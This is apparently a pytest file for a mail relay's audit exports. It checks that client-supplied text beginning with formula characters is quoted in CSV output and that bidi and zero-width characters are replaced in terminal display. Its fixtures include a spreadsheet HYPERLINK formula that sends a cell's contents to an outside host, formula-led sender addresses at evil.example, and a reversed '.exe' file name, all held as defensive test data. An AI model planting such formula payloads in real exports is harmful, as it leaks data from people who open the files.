"""The audit tools' CSV opened in a spreadsheet: text a client wrote stays text."""

from __future__ import annotations

import csv
import io
import json
import smtplib
from pathlib import Path

import pytest

from relay.audit import AuditLog, events, render
from relay.audit.render import write_csv
from tests.relayproc import RelayProcess
from tests.sink import SinkServer, free_port
from tests.test_audit_fixture import Clock, read_all
from tests.test_decisions import msg
from tests.test_queue_e2e import configure, relay_cli, send

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Invoice")'
SENDERS = ("=2+5@evil.example", "-2+5@evil.example", "+2+5@evil.example")


def _refused(port: int, sender: str) -> None:
    """An unknown sender, refused after its data: a ``rejected`` record names it."""
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as client:
        client.ehlo()
        client.mail(sender)
        client.rcpt("one@example.org")
        code, _ = client.data(msg(f"From: {sender}", "To: one@example.org", "Subject: Hi"))
    assert code >= 500


def _search(policy: Path, output: str) -> str:
    done = relay_cli(policy, "audit", "search", "--format", output)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_formula_a_client_wrote_is_text_in_the_csv(policy_file: Path, tmp_path: Path) -> None:
    """A Subject ``=HYPERLINK(…)`` ran as a formula where an auditor opened the
    export, sending the row's cells wherever it pointed; JSON keeps it as written."""
    with SinkServer() as sink:
        port = free_port()
        policy = configure(policy_file, port, sink.port, "audit: {record_subject: yes}\n")
        with RelayProcess(policy, port, tmp_path / "relay.log"):
            send(
                port, msg("From: jan@acme.example", "To: one@example.org", f"Subject: {HYPERLINK}")
            )
            for sender in SENDERS:
                _refused(port, sender)
            sink.sink.wait(1)
    records = [json.loads(line) for line in _search(policy, "json").splitlines()]
    rows = list(csv.DictReader(io.StringIO(_search(policy, "csv"), newline="")))
    (received,) = [r for r in rows if r["event"] == "received"]
    assert received["subject"] == "'" + HYPERLINK
    assert [r["mail_from"] for r in rows if r["event"] == "rejected"] == [
        f"'{sender}" for sender in SENDERS
    ]
    assert [r["subject"] for r in records if "subject" in r] == [HYPERLINK]
    assert [r["mail_from"] for r in records if r["event"] == "rejected"] == list(SENDERS)
    for row, record in zip(rows, records, strict=True):
        for key, value in record.items():
            if isinstance(value, int | str) and value not in (HYPERLINK, *SENDERS):
                assert row[key] == str(value), key


def test_a_report_cell_that_starts_as_a_formula_is_text(policy_file: Path, tmp_path: Path) -> None:
    """The report's tenants and types come from the policy, which may name a type
    ``-credit``: it is text as the search's cells are, and the counts are numbers."""
    credit = "  - id: credit-subject\n    type: -credit\n    subject: '(?i)\\bcredit\\b'\n"
    policy_file.write_text(policy_file.read_text().replace("classify:\n", f"classify:\n{credit}"))
    with SinkServer() as sink:
        port = free_port()
        policy = configure(policy_file, port, sink.port)
        with RelayProcess(policy, port, tmp_path / "relay.log"):
            send(port, msg("From: jan@acme.example", "To: one@example.org", "Subject: Credit"))
            sink.sink.wait(1)
    done = relay_cli(policy, "audit", "report", "--format", "csv")
    assert done.returncode == 0, done.stderr
    (row,) = csv.DictReader(io.StringIO(done.stdout, newline=""))
    assert (row["tenant"], row["doc_type"], row["sent"], row["failed"]) == (
        "acme",
        "'-credit",
        "1",
        "0",
    )
    done = relay_cli(policy, "audit", "report", "--format", "json")
    assert json.loads(done.stdout)["doc_type"] == "-credit"


def test_only_a_cell_that_starts_as_a_formula_gets_a_quote(tmp_path: Path) -> None:
    """A tab or a carriage return first is a formula too (OWASP); the same
    characters later in a cell, or a quote the cell starts with, are left."""
    replies = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "550 =1+1", "'=1+1", ""]
    with AuditLog(tmp_path, clock=Clock()) as log:
        for reply in replies:
            log.append(events.failed(queue_id="Q1", message_id=None, recipient="a@b", reply=reply))
    out = io.StringIO()
    write_csv(read_all(tmp_path), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["reply"] for r in rows] == [
        "'=1+1", "'+1", "'-1", "'@SUM(1)", "'\t=1+1", "'\r=1+1", "550 =1+1", "'=1+1", ""
    ]  # fmt: skip
    assert [r["seq"] for r in rows] == [str(n) for n in range(1, len(replies) + 1)]


@pytest.mark.parametrize("text", ["\u202egnp.exe", "A\u200bB", "\u2066x\u2069", "\ufeffx"])
def test_what_a_terminal_shows_otherwise_is_not_printed_as_it_is(text: str) -> None:
    """A Subject's bidi override showed it reversed in ``relay audit show``, and a
    zero-width space hid itself."""
    shown = render._safe(text)
    assert "?" in shown and not any(c in shown for c in "\u202e\u200b\u2066\u2069\ufeff")


@pytest.mark.parametrize(
    "text", ["\u062d\u0633\u06cc\u0646\u200c\u0632\u0627\u062f\u0647", "\U0001f468\u200d\U0001f469"]
)
def test_joiners_that_names_and_emoji_need_are_printed(text: str) -> None:
    """A Persian surname's zero-width non-joiner and an emoji's joiner showed as ?."""
    assert render._safe(text) == text
